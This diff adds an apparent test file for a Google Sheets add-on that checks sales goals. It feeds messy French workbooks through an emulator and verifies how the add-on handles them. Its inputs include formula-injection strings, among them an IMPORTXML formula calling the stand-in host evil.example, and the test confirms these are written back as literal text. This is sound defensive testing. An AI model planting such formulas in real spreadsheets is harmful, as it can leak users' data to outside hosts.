@@ -1,0 +1,224 @@
+/**
+ * Red-team workbooks as sales managers really keep them, run through the
+ * BUILT add-on on the emulator: a title above the header, unusual French
+ * headers, blank rows, hidden and extra columns, merged cells, formulas and
+ * error values, numbers and dates typed as fr_FR text, duplicate IDs, parent
+ * loops, a missing KPI tab, formula-injection strings.
+ */
+import { describeDifferences, diffSnapshots, snapshotCells } from '../../../src/local/emulator';
+import { OUTPUT_COLUMNS, outputHeader } from '../../../src/core/workbook/output';
+import type { CheckSummary } from '../../../src/core/workbook/types';
+import { addSheet, harness, ownedColumnLetters, TODAY, type Harness } from './harness';
+
+type Sheet = GoogleAppsScript.Spreadsheet.Sheet;
+type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;
+
+const HEADERS = [...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'en')), ...OUTPUT_COLUMNS.map((c) => outputHeader(c, 'fr'))];
+const GOALS = 'Objectifs commerciaux 2027';
+const INJECTIONS = ['=IMPORTXML("http://evil.example/x","//a")', '+1', '-1', '@foo'];
+
+/** Text that must never appear in a cell the add-on wrote: leaked placeholders or message keys. */
+const LEAKS = /\bundefined\b|\bNaN\b|\bnull\b|\[object Object\]|\{[a-zA-Z]+\}|\b(?:plan|align|wb|check|verdict|status|criterion|period|cli|menu)\.[a-z][A-Za-z]*(?:\.[A-Za-z]+)*\b/;
+
+export function leaksIn(values: readonly (readonly unknown[])[], where: string): string[] {
+  const found: string[] = [];
+  values.forEach((row, r) =>
+    row.forEach((cell, c) => {
+      const text = typeof cell === 'number' && !Number.isFinite(cell) ? 'NaN' : String(cell);
+      if (LEAKS.test(text)) found.push(`${where}!R${r + 1}C${c + 1}: ${text.slice(0, 80)}`);
+    }),
+  );
+  return found;
+}
+
+function frDate(year: number, month: number, day: number): string {
+  return `${String(day).padStart(2, '0')}/${String(month).padStart(2, '0')}/${year}`;
+}
+
+/** Monthly new accounts typed as fr text dates, unsorted, with a "Total" row and a comment row among them. */
+function monthlyAccounts(): unknown[][] {
+  const rows: unknown[][] = [];
+  for (let i = 0; i < 30; i++) {
+    const month = (i % 12) + 1;
+    rows.push([frDate(2024 + Math.floor(i / 12), month, 1), 8 + (month % 3) + i * 0.1]);
+  }
+  rows.splice(5, 0, ['Total', 999]);
+  rows.splice(9, 0, ['note : changement de CRM', '']);
+  [rows[3], rows[10]] = [rows[10], rows[3]];
+  return [['Mois', 'Valeur'], ...rows];
+}
+
+/** Weekly tab with three series: a rate typed "25 %", a count, an amount typed "12 000,5". */
+function weeklyKpis(): unknown[][] {
+  const rows: unknown[][] = [['Semaine', 'Taux de conclusion', 'Leads', 'CA (€)']];
+  for (let i = 0; i < 60; i++) rows.push([new Date(Date.UTC(2025, 8, 1 + 7 * i)), `${24 + (i % 4)} %`, 100 + i, `${12000 + i * 50},5`]);
+  return rows;
+}
+
+function messyFrench(): { h: Harness; goals: Sheet } {
+  const h = harness({ spreadsheetLocale: 'fr_FR', userLocale: 'fr' });
+  addSheet(h.emulator, 'Nouveaux comptes', monthlyAccounts());
+  addSheet(h.emulator, 'KPI hebdo', weeklyKpis());
+  const goals = addSheet(h.emulator, GOALS, [
+    ['Plan commercial 2027'],
+    [],
+    ['Réf', 'Objectif SMART', 'KPI suivi', 'Responsable commercial', 'Valeur actuelle', 'Valeur cible', "Date d'échéance", 'Objectif parent', 'Commentaire', 'Secret'],
+    ['A', "Signer 120 nouveaux comptes d'ici fin 2027", 'Nouveaux comptes', 'Équipe Nord', '', '120', '31/12/2027', '', 'ok', 'x'],
+    ['A1', 'Signer 20 nouveaux comptes au T1 2027', 'Nouveaux comptes', 'Équipe Nord', '', '20', '31/03/2027', 'A', '', ''],
+    [],
+    ['A2', 'Signer 30 nouveaux comptes au T2 2027', 'Nouveaux comptes', 'Équipe Nord', '', '30', '30/06/2027', 'A', '', ''],
+    ['B', "Passer le taux de conclusion de 25 % à 30 % d'ici fin mars 2027", 'Taux de conclusion', 'Alice', '25 %', '30', '31/03/2027', '', '', ''],
+    // Typed with the apostrophe that keeps them text in Sheets.
+    ['D', `'${INJECTIONS[0]}`, 'KPI inexistant', `'${INJECTIONS[1]}`, `'${INJECTIONS[2]}`, `'${INJECTIONS[3]}`, '30/06/2027', '', '', ''],
+    ['E', 'Augmenter le CA hebdo de 10 %', 'CA (€)', 'Carla', '1 234,5', '', 'bientôt', 'E2', '', ''],
+    ['E2', 'Sous objectif', 'CA (€)', 'Carla', '', '', '30/06/2027', 'E', '', ''],
+    ['A', "Doublon d'identifiant", 'Leads', '', '', '500', '31/12/2027', 'ZZZ', '', ''],
+  ]);
+  goals.getRange('A1:J1').merge();
+  goals.getRange('J4').setFormula('=1/0');
+  goals.getRange('I5').setFormula('=A4&"-x"');
+  goals.getRange('F11').setValue('#DIV/0!');
+  goals.getRange('I4').setNote('note utilisateur');
+  goals.getRange('D4').setBackground('#ffff00');
+  goals.hideColumns(10);
+  return { h, goals };
+}
+
+function letterOf(cell: string): string {
+  return cell.replace(/\d+$/, '');
+}
+
+describe('a messy French goals tab (title, blank rows, hidden/extra columns, formulas, fr text numbers)', () => {
+  const { h, goals } = messyFrench();
+  const spreadsheet = h.emulator.spreadsheet as unknown as Spreadsheet;
+  const before = snapshotCells(h.emulator.spreadsheet);
+  const summary = h.run<CheckSummary>('checkGoals');
+  const afterCheck = snapshotCells(h.emulator.spreadsheet);
+  const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
+  const report = spreadsheet.getSheetByName(sheetName) as Sheet;
+  const reportValues = report.getDataRange().getValues();
+  const reportText = reportValues.flat().map(String);
+  const rowOf = (id: string, nth = 0): unknown[] => goals.getDataRange().getValues().filter((r) => r[0] === id)[nth];
+  const header = goals.getRange(3, 1, 1, goals.getLastColumn()).getValues()[0] as string[];
+  const col = (name: string): number => header.indexOf(name);
+
+  it('finds the header under the title and reads every goal row', () => {
+    expect(summary.sheetName).toBe(GOALS);
+    expect(summary.total).toBe(8);
+    expect(summary.checked).toBe(8);
+  });
+
+  it('changes nothing but its own columns, and the report sheet leaves every other tab alone', () => {
+    const owned = ownedColumnLetters(h.emulator, GOALS, HEADERS);
+    expect(owned.size).toBe(OUTPUT_COLUMNS.length);
+    const ignore = (sheet: string, cell: string): boolean => sheet === GOALS && owned.has(letterOf(cell));
+    expect(describeDifferences(diffSnapshots(before, afterCheck, { ignore }))).toEqual(describeDifferences([]));
+    const afterReport = snapshotCells(h.emulator.spreadsheet, { sheets: before.order });
+    expect(describeDifferences(diffSnapshots(before, afterReport, { ignore }))).toEqual(describeDifferences([]));
+  });
+
+  it('flags a duplicate ID on both rows, with the rows named', () => {
+    for (const nth of [0, 1]) expect(String(rowOf('A', nth)[col('Remarques SMART')])).toContain("L'ID « A » figure sur plusieurs lignes (4, 12)");
+    expect(summary.alignmentProblems.map((p) => p.message)).toContain("L'ID « A » figure sur plusieurs lignes (4, 12) ; la colonne Parent renvoie à la première (ligne 4).");
+  });
+
+  it('flags a Parent loop on every goal of the loop and suggests repairing the IDs', () => {
+    for (const id of ['E', 'E2']) {
+      expect(String(rowOf(id)[col('Remarques SMART')])).toContain('La colonne Parent tourne en boucle (E2 → E → E2)');
+      expect(rowOf(id)[col('Contrôle')]).toBe('⚠ À revoir');
+    }
+    const recommendation = reportValues.find((r) => r[0] === 'E2' && String(r[3]).includes('Donnez à chaque objectif son propre ID'));
+    expect(recommendation).toBeDefined();
+  });
+
+  it('does not call partial sub-goals "adding up" in the tree', () => {
+    const treeRow = reportValues.find((r) => r[0] === 'A' && typeof r[4] === 'string' && r[3] === 50) as unknown[];
+    expect(treeRow).toBeDefined();
+    expect(String(treeRow[4])).not.toMatch(/^✓/);
+    expect(String(rowOf('A1')[col('R – Pertinent')])).toBe('OK');
+  });
+
+  it('says when a proposed split rests on quarter averages rather than past years', () => {
+    const split = reportValues.find((r) => r[0] === 'A' && r[1] === "Doublon d'identifiant" && typeof r[2] === 'number') as unknown[];
+    expect((split.slice(2, 6) as number[]).reduce((a, b) => a + b, 0)).toBe(500);
+    expect(split[6]).toBe('moyennes trimestrielles (aucune année passée complète)');
+  });
+
+  it('charts a total goal without a start from today (not from the first month of history)', () => {
+    const title = reportValues.findIndex((r) => r[0] === 'Nouveaux comptes');
+    const data = reportValues.slice(title + 2, title + 6);
+    expect(data[0][2]).toBe(0);
+    expect(Math.max(...data.map((r) => Number(r[2]) || 0))).toBeLessThan(120);
+    const chart = report.getCharts().map((c) => c.getRanges()[0].getA1Notation());
+    expect(chart).toContain(`A${title + 2}:H${reportValues.findIndex((r, i) => i > title && r[0] === '') }`);
+  });
+
+  it('writes injection strings back as literal text everywhere', () => {
+    const d = rowOf('D');
+    expect(d[1]).toBe(INJECTIONS[0]);
+    const cells = report.getDataRange();
+    const formulas = cells.getFormulas().flat().filter((f) => f !== '');
+    expect(formulas).toEqual([]);
+    expect(reportText).toContain(INJECTIONS[0]);
+    expect(reportText).toContain(INJECTIONS[1]);
+    const resultFormulas = goals.getRange(1, 11, goals.getLastRow(), OUTPUT_COLUMNS.length).getFormulas().flat().filter((f) => f !== '');
+    expect(resultFormulas).toEqual([]);
+  });
+
+  it('leaves no placeholder, raw message key, undefined, NaN, null or [object Object] in any written cell', () => {
+    const results = goals.getRange(1, 11, goals.getLastRow(), OUTPUT_COLUMNS.length).getValues();
+    expect([...leaksIn(results, GOALS), ...leaksIn(reportValues, sheetName), ...leaksIn(report.getDataRange().getDisplayValues(), `${sheetName} (display)`)]).toEqual([]);
+  });
+
+  it('re-runs in place: no new column, rule, metadata or report sheet', () => {
+    const width = goals.getLastColumn();
+    const rules = goals.getConditionalFormatRules().length;
+    const sheets = spreadsheet.getSheets().map((s) => s.getName());
+    h.run('checkGoals');
+    h.run('generatePlanReport');
+    expect(goals.getLastColumn()).toBe(width);
+    expect(goals.getConditionalFormatRules()).toHaveLength(rules);
+    expect(spreadsheet.getSheets().map((s) => s.getName())).toEqual(sheets);
+  });
+});
+
+describe('plain English tabs: no goal, one goal, a KPI tab that does not exist', () => {
+  function run(goalRows: unknown[][], kpis: Record<string, unknown[][]> = {}) {
+    const h = harness({ spreadsheetLocale: 'en_US', userLocale: 'en' });
+    for (const [name, rows] of Object.entries(kpis)) addSheet(h.emulator, name, rows);
+    const goals = addSheet(h.emulator, 'Sales Goals', goalRows);
+    const summary = h.run<CheckSummary>('checkGoals');
+    const { sheetName } = h.run<{ sheetName: string }>('generatePlanReport');
+    const report = (h.emulator.spreadsheet as unknown as Spreadsheet).getSheetByName(sheetName) as Sheet;
+    return { h, goals, summary, report, values: report.getDataRange().getValues() };
+  }
+
+  it('a tab with headers only says there is no goal row, in the summary and the report', () => {
+    const { summary, values } = run([['Goal', 'Owner', 'Target', 'Deadline']]);
+    expect(summary.message).toMatch(/^No goal rows under the header row of "Sales Goals"/);
+    expect(values.flat()).toContain('No goal rows in the goals tab yet.');
+    expect(leaksIn(values, 'report')).toEqual([]);
+  });
+
+  it('a daily revenue goal shows a visible required pace (not "+$0")', () => {
+    const daily: unknown[][] = [['Date', 'Revenue ($)']];
+    for (let i = 0; i < 400; i++) daily.push([new Date(Date.UTC(2025, 9, 1 + i)), 1000 + 200 * Math.sin(i / 7) + i]);
+    const { values } = run([['Goal', 'Owner', 'Target', 'Deadline'], ['Reach $1,500 daily revenue by June 30, 2027', 'Ann', 1500, '6/30/2027']], { 'Daily KPIs': daily });
+    const goalRow = values.find((r) => r[1] === 'Reach $1,500 daily revenue by June 30, 2027' && r[4] !== '') as unknown[];
+    expect(goalRow[4]).toMatch(/per day$/);
+    expect(goalRow[4]).not.toMatch(/^\+\$?0 /);
+    expect(leaksIn(values, 'report')).toEqual([]);
+  });
+
+  it('a KPI the workbook has no tab for is named as the user typed it', () => {
+    const { goals, values } = run([['ID', 'Goal', 'KPI', 'Target value', 'Due date'], ['X', 'Grow MRR to 50k by Q2 2027', 'MRR', '50,000', '6/30/2027']]);
+    const notes = goals.getRange(2, goals.getLastColumn()).getValue();
+    expect(notes).toContain('No KPI tab found for "MRR"');
+    expect(values.find((r) => r[0] === 'X')?.[3]).toBe('MRR');
+  });
+});
+
+test('the leak scanner catches what it looks for', () => {
+  expect(TODAY).toBe('2026-11-26');
+  expect(leaksIn([['plan.tree.fits', 'x undefined', Number.NaN, '[object Object]', 'Goal {id}', 'null', 'ok']], 't')).toHaveLength(6);
+});
